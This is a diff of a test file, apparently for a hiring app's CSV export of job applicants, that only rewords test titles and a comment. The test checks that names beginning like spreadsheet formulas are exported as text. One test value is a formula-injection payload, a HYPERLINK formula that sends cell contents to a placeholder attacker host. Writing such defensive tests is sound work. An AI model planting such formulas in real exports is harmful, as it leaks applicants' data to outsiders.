@@ -23,7 +23,7 @@ const download = async (vacancy: { id: string }, as: Person, query = '') =>
 const tableOf = (text: string): string[][] =>
   parse(text, { delimiter: ';', bom: true, record_delimiter: '\r\n' });
 
-test('who applied is a table that Excel opens, in which nobody’s name is a formula', async () => {
+test('the applicants are a table that Excel opens, in which no name is a formula', async () => {
   const vacancy = await aVacancy(db, padaria, { title: 'Padeira "chefe"; São João' });
   const hostile = [
     '=HYPERLINK("http://mal.example?"&A1;"Clique")',
@@ -62,7 +62,7 @@ test('who applied is a table that Excel opens, in which nobody’s name is a for
   expect(response.body.split('\r\n')).toHaveLength(hostile.length + 3);
   const [header = [], ...rows] = tableOf(response.body);
   expect(header.slice(0, 3)).toEqual(['Nome', 'E-mail', 'Telefone']);
-  // Five of them begin like a formula, and are text now.
+  // Five names begin like a formula, and are text now.
   expect(rows.map(([name]) => name).sort()).toEqual(
     hostile.map((name, index) => (index < 5 ? `'${name}` : name)).sort(),
   );
@@ -82,7 +82,7 @@ test('who applied is a table that Excel opens, in which nobody’s name is a for
   ]);
 });
 
-test('the table holds whom the list does, in its order: those who hid since, and no banned ones', async () => {
+test('the table contains the applicants of the list in its order, including hidden but no banned ones', async () => {
   const vacancy = await aVacancy(db, padaria);
   const [ana, bia, caio, davi] = await Promise.all(
     [
